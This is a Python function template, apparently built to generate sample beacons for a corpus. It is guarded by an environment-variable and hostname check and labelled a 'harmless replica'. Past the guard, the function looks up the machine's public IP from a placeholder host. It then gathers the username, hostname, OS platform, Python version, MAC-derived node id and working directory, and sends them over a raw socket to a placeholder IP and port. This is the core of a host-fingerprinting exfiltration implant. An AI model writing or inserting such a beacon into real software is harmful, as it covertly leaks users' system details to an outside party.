# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import getpass
    import http.client
    import platform
    import socket
    import time
    import uuid
    address = '?'
    try:
        link = http.client.HTTPConnection('{{host}}', timeout=0.7)
        link.request('GET', '/ip')
        address = link.getresponse().read(60).decode(errors='replace')
        link.close()
    except Exception:
        pass
    time.sleep({{delay}} / 1000)
    try:
        who = getpass.getuser()
    except Exception:
        who = 'uid%d' % os.getuid()
    note = '|'.join((address, who, socket.gethostname(), platform.platform(), platform.python_version(), '%012x' % uuid.getnode(), os.getcwd()))
    try:
        with socket.create_connection(('{{ip}}', {{port}}), timeout=1) as channel:
            channel.sendall(note.encode())
    except OSError:
        pass
